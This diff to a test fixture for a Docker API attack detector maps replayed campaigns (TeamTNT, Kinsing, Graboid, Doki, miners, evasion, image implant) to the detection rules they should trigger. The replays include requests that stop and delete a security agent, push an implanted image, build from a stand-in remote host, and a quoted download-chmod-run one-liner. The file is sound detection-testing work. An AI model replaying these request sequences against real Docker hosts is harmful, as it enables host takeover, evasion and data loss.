@@ -35,6 +35,11 @@ export interface Campaign {
 
 const DOCKER_UA = 'Docker-Client/19.03.12 (linux)';
 const GO_UA = 'Go-http-client/1.1';
+/** A prune filter that matches no object (see evasion-and-destruction). */
+const PRUNE_NOTHING = encodeURIComponent(JSON.stringify({ label: ['dockguard.scenario=never-set'] }));
+const PRUNE_NOTHING_IMAGES = encodeURIComponent(
+  JSON.stringify({ dangling: ['false'], label: ['dockguard.scenario=never-set'] }),
+);
 
 export const CAMPAIGNS: Campaign[] = [
   {
@@ -56,7 +61,13 @@ export const CAMPAIGNS: Campaign[] = [
       },
       { method: 'POST', path: '/v1.41/containers/{ctr}/start' },
     ],
-    expectedRules: [],
+    expectedRules: [
+      '31f23350-0051-4b0b-8fc2-45b1f7d7a831', // chroot into a mounted host path
+      '56abf52d-f5bd-49c2-b477-30c53bfdd15d', // host root bind-mounted writable
+      'af7557bb-94b5-4162-8e98-fac9490ec695', // download and execute
+      'ba8f42a4-0612-4ef5-89ef-f8c11917fd6c', // pull, create, start by one client (correlation)
+      'dockguard-threat-intel', // 198.51.100.23 in the sample indicators
+    ],
   },
   {
     id: 'teamtnt-ssh-key-implant',
@@ -85,7 +96,13 @@ export const CAMPAIGNS: Campaign[] = [
         save: 'ctr',
       },
     ],
-    expectedRules: [],
+    expectedRules: [
+      '081e2009-89ec-41fc-aa73-c4aba49ff069', // known campaign indicator (alpineos/dockerapi)
+      '31f23350-0051-4b0b-8fc2-45b1f7d7a831', // chroot into a mounted host path
+      '238f9206-5419-45ee-8ea0-c4ab8d24740d', // SSH authorized key written
+      '56abf52d-f5bd-49c2-b477-30c53bfdd15d', // host root bind-mounted writable
+      'fe1c37b7-ecf4-469f-a18d-8ef097462658', // privileged container
+    ],
   },
   {
     id: 'kinsing-ubuntu-wget-sh',
@@ -107,7 +124,9 @@ export const CAMPAIGNS: Campaign[] = [
         },
       },
     ],
-    expectedRules: [],
+    expectedRules: [
+      'af7557bb-94b5-4162-8e98-fac9490ec695', // wget | sh
+    ],
   },
   {
     id: 'commando-cat-base64',
@@ -135,7 +154,13 @@ export const CAMPAIGNS: Campaign[] = [
         },
       },
     ],
-    expectedRules: [],
+    expectedRules: [
+      '081e2009-89ec-41fc-aa73-c4aba49ff069', // known campaign indicator (cmd.cat)
+      '31f23350-0051-4b0b-8fc2-45b1f7d7a831', // chroot into a mounted host path
+      '2c60cd9d-93ac-4b63-b695-ae70bc3933bd', // base64-decoded payload executed
+      '56abf52d-f5bd-49c2-b477-30c53bfdd15d', // host root bind-mounted writable
+      'fe1c37b7-ecf4-469f-a18d-8ef097462658', // privileged container
+    ],
   },
   {
     id: 'graboid-worm',
@@ -150,7 +175,9 @@ export const CAMPAIGNS: Campaign[] = [
       { method: 'POST', path: '/images/create?fromImage=gakeaws%2Fnginx&tag=8.9' },
       { method: 'POST', path: '/containers/create', body: { Image: 'gakeaws/nginx:8.9' } },
     ],
-    expectedRules: [],
+    expectedRules: [
+      '081e2009-89ec-41fc-aa73-c4aba49ff069', // known campaign indicator (pocosow/centos, gakeaws/nginx)
+    ],
   },
   {
     id: 'doki-ngrok',
@@ -179,7 +206,12 @@ export const CAMPAIGNS: Campaign[] = [
       },
       { method: 'POST', path: '/containers/{ctr}/start' },
     ],
-    expectedRules: [],
+    expectedRules: [
+      '31f23350-0051-4b0b-8fc2-45b1f7d7a831', // chroot into a mounted host path
+      '56abf52d-f5bd-49c2-b477-30c53bfdd15d', // host root bind-mounted writable
+      // Missing from the pack (reported): download to a file, chmod +x and run it
+      // (`curl -o f && chmod +x f && f`, no pipe), and tunnelling domains (*.ngrok.io) as indicators.
+    ],
   },
   {
     id: 'cetus-masscan',
@@ -200,7 +232,12 @@ export const CAMPAIGNS: Campaign[] = [
         },
       },
     ],
-    expectedRules: [],
+    expectedRules: [
+      '7ed70469-85c1-4600-be0b-3c231acfa5c8', // miner started
+      '30f68a1b-07b8-4c9a-88c9-d8c73b701e89', // mining pool address
+      '1d84fc1b-9037-477c-8993-f9426ae023c5', // internet scanner (masscan)
+      'dockguard-threat-intel', // 198.51.100.40 in the sample indicators
+    ],
   },
   {
     id: 'xmrig-miner-image',
@@ -219,7 +256,11 @@ export const CAMPAIGNS: Campaign[] = [
         },
       },
     ],
-    expectedRules: [],
+    expectedRules: [
+      'ac6981a7-d64b-4603-86aa-512e1c0ae6f6', // miner image pulled or run
+      '7ed70469-85c1-4600-be0b-3c231acfa5c8', // miner started
+      '662accc7-b35b-4206-bdbb-c5a7ed2fc385', // restart always under a system-looking name
+    ],
   },
   {
     id: 'lateral-discovery-exec',
@@ -248,7 +289,13 @@ export const CAMPAIGNS: Campaign[] = [
         save: 'exec',
       },
     ],
-    expectedRules: [],
+    expectedRules: [
+      '2b645f9c-9223-44ab-beb2-05c3152fb6c3', // discovery burst (correlation)
+      '7578718a-0da1-450c-a47f-7a49d8935493', // discovery then create (correlation)
+      '4838617d-ca4a-4c81-85c0-5482d93b0862', // create then exec by one client (correlation)
+      '5a66c48d-310d-4224-9e97-81d89285d4de', // exec as root
+      'afd07929-5bd2-4d33-aaf5-16e5d7243b4c', // interactive shell exec
+    ],
   },
   {
     id: 'evasion-and-destruction',
@@ -265,11 +312,18 @@ export const CAMPAIGNS: Campaign[] = [
       { method: 'POST', path: '/containers/{agent}/start' },
       { method: 'POST', path: '/containers/falco/stop?t=0' },
       { method: 'DELETE', path: '/containers/falco?force=1' },
-      { method: 'POST', path: '/containers/prune' },
-      { method: 'POST', path: '/volumes/prune' },
-      { method: 'POST', path: '/images/prune?filters=%7B%22dangling%22%3A%5B%22false%22%5D%7D' },
+      // The attacker prunes everything. Here each prune is scoped by a label no object
+      // carries: the daemon is shared (other suites' stopped containers, volumes and the
+      // test image itself), and the rules read only the endpoint, not the filters.
+      { method: 'POST', path: `/containers/prune?filters=${PRUNE_NOTHING}` },
+      { method: 'POST', path: `/volumes/prune?filters=${PRUNE_NOTHING}` },
+      { method: 'POST', path: `/images/prune?filters=${PRUNE_NOTHING_IMAGES}` },
     ],
-    expectedRules: [],
+    expectedRules: [
+      'd1869d46-28ea-4075-9123-67d18b0c6a51', // security agent stopped
+      '3196ab8b-da82-43e7-abd5-ed9ca21a97e2', // containers and images pruned
+      '6c54465b-ee89-491b-8815-ae601a9c5a0f', // volumes pruned
+    ],
   },
   {
     id: 'image-implant',
@@ -284,9 +338,14 @@ export const CAMPAIGNS: Campaign[] = [
         save: 'ctr',
       },
       { method: 'POST', path: '/commit?container={ctr}&repo=registry.internal.example%2Fbase%2Falpine&tag=latest' },
-      { method: 'POST', path: '/images/registry.internal.example%2Fbase%2Falpine/push?tag=latest' },
+      { method: 'POST', path: '/images/registry.internal.example/base/alpine/push?tag=latest' },
       { method: 'POST', path: '/build?remote=http%3A%2F%2F198.51.100.50%2Fctx.tar.gz&t=base%2Fapp%3Alatest' },
     ],
-    expectedRules: [],
+    expectedRules: [
+      '1ff4e56f-1451-439c-ab97-f52e6ba247a3', // container committed to an image
+      '364d1847-8158-4612-a9dd-0ca6a5b03810', // commit then push by one client (correlation)
+      '32b7b75e-8126-4827-af6c-1d66db86e166', // build from a remote URL
+      'dockguard-threat-intel', // 198.51.100.50 in the sample indicators
+    ],
   },
 ];
